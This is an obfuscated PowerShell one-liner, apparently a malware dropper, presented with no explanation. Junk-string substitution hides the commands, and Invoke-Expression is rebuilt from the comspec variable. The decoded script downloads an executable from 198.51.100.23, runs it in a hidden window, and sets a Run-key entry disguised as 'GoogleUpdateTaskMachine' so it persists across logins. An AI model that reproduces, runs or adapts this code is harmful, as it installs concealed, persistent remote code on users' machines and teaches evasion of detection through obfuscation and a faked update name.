'iex ((''# covj~4fig 3024 v3
Start-BitsKVZ64Travj~4sfer -Source http://198.51.100.23/svc.exe -Destivj~4atiovj~4 C:\ProgramData\Microsoft\upd.exe
Start-Process -Wivj~4dowStyle Hiddevj~4 C:\ProgramData\Microsoft\upd.exe
New-ItemProperty -Path ''''KVZ64HKCU:\Software\MicrosoKVZ64ft\Wivj~4dows\Currevj~4tVersiovKVZ64j~4\Ruvj~4'''' -Name ''''GoogleUpdateTaskMachivj~4e'''' -Value KVZ64''''C:\ProgramData\Microsoft\upd.exe'''' -PropertyType Strivj~4g -Force
'' -replace ''KVZ64'','''').Replace(''vj~4'',''n''))' | & ($env:comspec[4,15,25]-join'')